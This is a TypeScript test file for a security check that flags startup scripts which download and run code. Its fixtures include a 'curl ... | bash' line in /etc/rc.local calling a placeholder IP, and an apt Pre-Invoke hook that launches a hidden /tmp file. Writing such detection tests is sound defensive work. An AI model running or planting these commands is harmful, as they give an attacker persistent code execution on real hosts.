import { completeSet, incompleteSet, type StartupScript } from 'rempart/check';
import check from '../../../checks/runtime-detection/no-downloaders-at-startup.ts';
import { testCheck } from '../../test-check.ts';
import { NO_PERMISSION } from '../host-examples.ts';

const of = (text: string, path = '/etc/rc.local') => ({ self: { scripts: completeSet([{ path, text }]) } });

testCheck(check, [
  { name: 'ordinary lines', facts: of('exec /usr/sbin/hdparm -S 0 /dev/sda\nexit 0'), expect: 'pass' },
  {
    name: 'rc.local fetches and runs',
    facts: of('curl -fsSL http://198.51.100.7/x | bash'),
    expect: {
      outcome: 'fail',
      findings: [
        {
          message: '/etc/rc.local feeds a download to a shell',
          expected: 'programs of this system',
          actual: 'curl -fsSL http://198.51.100.7/x | bash',
          location: { path: '/etc/rc.local', resource: '/etc/rc.local' },
        },
      ],
      resources: { passed: 0, total: 1, complete: true },
    },
  },
  {
    name: 'a hook of apt starts a hidden file',
    facts: of('APT::Update::Pre-Invoke {"/tmp/.cache-x &";};', '/etc/apt/apt.conf.d/99x'),
    expect: 'fail',
  },
  {
    name: 'sockets of X are hidden by custom',
    facts: of('chmod 1777 /tmp/.X11-unix', '/etc/profile'),
    expect: 'pass',
  },
  {
    name: 'files of root closed to us',
    facts: { self: { scripts: incompleteSet<StartupScript>([], NO_PERMISSION) } },
    expect: 'unknown',
  },
]);
